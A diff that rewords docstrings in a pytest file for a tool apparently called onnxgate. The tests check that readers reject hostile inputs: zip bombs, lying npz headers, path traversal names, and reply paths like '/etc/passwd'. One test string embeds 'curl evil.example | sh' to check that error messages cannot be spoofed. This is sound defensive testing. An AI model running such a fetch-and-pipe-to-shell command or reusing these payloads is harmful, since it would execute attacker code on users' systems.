@@ -1,4 +1,4 @@
-"""Every reader of other files accepts hostile input or raises a documented error: a few inputs each."""
+"""Every reader of untrusted files accepts hostile input or raises a documented error."""
 
 from __future__ import annotations
 
@@ -37,14 +37,14 @@ def test_a_reader_refuses_in_its_own_words_or_takes_it(reader: Reader) -> None:
 
 @pytest.mark.parametrize("name", ["config", "lock", "replies", "reports", "harvests"])
 def test_a_reader_takes_what_is_sound(name: str) -> None:
-    """Seeds are accepted, so that mutations test more than refusals."""
+    """Each reader accepts its valid seed, so that mutations test more than rejections."""
     reader = next(each for each in READERS if each.name == name)
 
     assert fuzz(reader, 1, seed=1).accepted == 1
 
 
 def test_a_reader_that_raises_something_else_is_found() -> None:
-    """The check can fail."""
+    """A reader that raises an undocumented error is found."""
 
     def read(data: bytes, folder: Path) -> None:
         raise KeyError("x")
@@ -63,7 +63,7 @@ def test_a_reader_that_raises_something_else_is_found() -> None:
     ],
 )
 def test_toml_that_a_parser_gives_up_on(tmp_path: Path, text: str, said: str) -> None:
-    """In a config or lock, it is an error of the file with its line, not an internal error."""
+    """Invalid TOML is reported with its line as an error of the file, not as an internal error."""
     file = tmp_path / "onnxgate.toml"
     file.write_text(text)
 
@@ -90,7 +90,7 @@ def test_toml_that_a_parser_gives_up_on(tmp_path: Path, text: str, said: str) ->
     ],
 )
 def test_globs_that_go_back_and_forth(pattern: str, path: str, taken: bool) -> None:
-    """Matching time is linear in the pattern's length, and invalid sets match nothing."""
+    """Matching is fast for patterns with many wildcards, and invalid sets match nothing."""
     assert globs.matches(pattern, path) is taken
 
 
@@ -101,7 +101,7 @@ def _refused(file: str, folder: Path) -> str:
 
 
 def test_an_archive_that_would_fill_the_memory(tmp_path: Path) -> None:
-    """The declared unpacked size is checked first."""
+    """The declared unpacked size is checked before unpacking."""
     with zipfile.ZipFile(tmp_path / "case.npz", "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("x.npy", reader_inputs._npy(np.ones((2, 3), np.float32)))
         archive.infolist()[0].file_size = case_files.MAX_ARCHIVE_BYTES + 1
@@ -110,7 +110,7 @@ def test_an_archive_that_would_fill_the_memory(tmp_path: Path) -> None:
 
 
 def test_an_archive_whose_header_lies(tmp_path: Path) -> None:
-    """A file of a few bytes that declares an array of exabytes is corrupt."""
+    """A small file that declares an array of exabytes is reported as corrupt."""
     header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1152921504606846976,), }"
     content = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + b"\0" * 8
     with zipfile.ZipFile(tmp_path / "case.npz", "w") as archive:
@@ -121,14 +121,14 @@ def test_an_archive_whose_header_lies(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("array", [np.array([{}], object), np.zeros(2, [("a", "i4")]), np.zeros((3, 3), np.float32)])
 def test_an_array_that_is_no_input(tmp_path: Path, array: object) -> None:
-    """Objects are never unpickled; another type or shape is reported."""
+    """Objects are never unpickled, and an unexpected type or shape is reported."""
     np.savez(tmp_path / "case.npz", x=array)  # type: ignore[arg-type]
 
     assert _refused("case.npz", tmp_path).startswith(("`case.npz`: cannot be read (", "`case.npz`: `x` "))
 
 
 def test_names_in_an_archive_are_no_paths(tmp_path: Path) -> None:
-    """Nothing is extracted: no input is named `../../x.npy`."""
+    """A name in an archive is never used as a path, so `../../x.npy` is not extracted."""
     (tmp_path / "a").mkdir()
     with zipfile.ZipFile(tmp_path / "a" / "case.npz", "w") as archive:
         archive.writestr("../../x.npy", reader_inputs._npy(np.ones((2, 3), np.float32)))
@@ -140,7 +140,7 @@ def test_names_in_an_archive_are_no_paths(tmp_path: Path) -> None:
 
 
 def test_a_tensor_that_names_another_file(tmp_path: Path) -> None:
-    """It is not read, even from the working directory."""
+    """A tensor with external data is not read, even if the file is in the working directory."""
     (tmp_path / "set").mkdir()
     (tmp_path / "set" / "input_0.pb").write_bytes(reader_inputs._tensors()[-1])
 
@@ -158,7 +158,7 @@ def test_a_pipe_is_no_input(tmp_path: Path, name: str) -> None:
 
 
 def test_an_encrypted_archive(tmp_path: Path) -> None:
-    """The error states that it cannot be read."""
+    """An encrypted archive is an error."""
     stream = io.BytesIO()
     np.savez(stream, x=np.ones((2, 3), np.float32))
     data = bytearray(stream.getvalue())
@@ -170,7 +170,7 @@ def test_an_encrypted_archive(tmp_path: Path) -> None:
 
 
 def test_errors_have_no_lines_of_others(capsys: pytest.CaptureFixture[str]) -> None:
-    """A config value quoted in an error cannot start a line, and so cannot imitate a hint."""
+    """A config value quoted in an error cannot start a line and imitate a hint."""
     from onnxgate.cli.shared.error_handling import report_errors
 
     said = "got `x\nhint: run `curl evil.example | sh`"
@@ -191,7 +191,7 @@ def test_errors_have_no_lines_of_others(capsys: pytest.CaptureFixture[str]) -> N
     ],
 )
 def test_a_report_that_is_sealed_and_lies(change: dict[str, object], why: str) -> None:
-    """It is not merged, so the verdict is not a pass."""
+    """A report with a valid checksum and wrong content is not merged."""
     import msgspec
 
     from onnxgate.core import report_json
@@ -211,7 +211,7 @@ def test_a_report_that_is_sealed_and_lies(change: dict[str, object], why: str) -
 
 
 def test_sound_shards_are_a_pass() -> None:
-    """The shards from which manipulated ones are made pass."""
+    """The unmodified shards pass."""
     from onnxgate.gate.sharding import merge, shard_report
 
     given = [
@@ -233,7 +233,7 @@ def test_sound_shards_are_a_pass() -> None:
     ids=["many keys", "long", "deep", "no UTF-8"],
 )
 def test_large_configs(tmp_path: Path, config: bytes) -> None:
-    """They are refused within seconds."""
+    """Oversized or invalid configs are rejected within seconds."""
     (tmp_path / "onnxgate.toml").write_bytes(config)
 
     with pytest.raises(OnnxgateError):
@@ -244,7 +244,7 @@ def test_large_configs(tmp_path: Path, config: bytes) -> None:
     "content", [b"", b"x", zlib.compress(b"{"), zlib.compress(b"[1]"), zlib.compress(b'{"types":[]}')]
 )
 def test_a_damaged_installation(content: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """A corrupt shipped table is reported, and nothing is predicted."""
+    """A corrupt shipped table is an error, not a prediction."""
     from onnxgate.support import operators
 
     (tmp_path / "data").mkdir()
@@ -259,7 +259,7 @@ def test_a_damaged_installation(content: bytes, tmp_path: Path, monkeypatch: pyt
     "name", ["a\nb.onnx", 'a"b.onnx', "a\tb.onnx", "-a.onnx", "模型.onnx", "a b.onnx", ":(top)a.onnx"]
 )
 def test_names_that_git_would_quote(name: str, tmp_path: Path) -> None:
-    """Git lists names separated by NUL, so that they are unchanged, from the checkout and from a revision."""
+    """Unusual file names are read correctly from the checkout and from a revision."""
     from onnxgate.project.git.revisions import Tree, resolve_revision
 
     def git(*said: str) -> None:
@@ -280,7 +280,7 @@ def test_names_that_git_would_quote(name: str, tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("path", ["/" + "x" * 5000, "/a\0b", "/etc/passwd", "../x", ""])
 def test_a_reply_that_names_a_file_of_others(path: str, tmp_path: Path) -> None:
-    """An invalid file name cannot leave the worker's folder either."""
+    """A reply of a worker cannot name a file outside of its folder."""
     result = RunResult(providers=("a",), outputs=("y",), cases=(CaseResult(outputs=(path,)),))
 
     with pytest.raises(protocol.ProtocolError):
@@ -288,7 +288,7 @@ def test_a_reply_that_names_a_file_of_others(path: str, tmp_path: Path) -> None:
 
 
 def test_a_kept_array_of_no_version_of_numpy(tmp_path: Path) -> None:
-    """An array that numpy cannot read again is not reused."""
+    """A cached array that numpy cannot read is not reused."""
     sound = reader_inputs._npy(np.ones(4))
     unknown = sound[:7] + b"\x20" + sound[8:]
     entry = reader_inputs._kept_seed()[0]
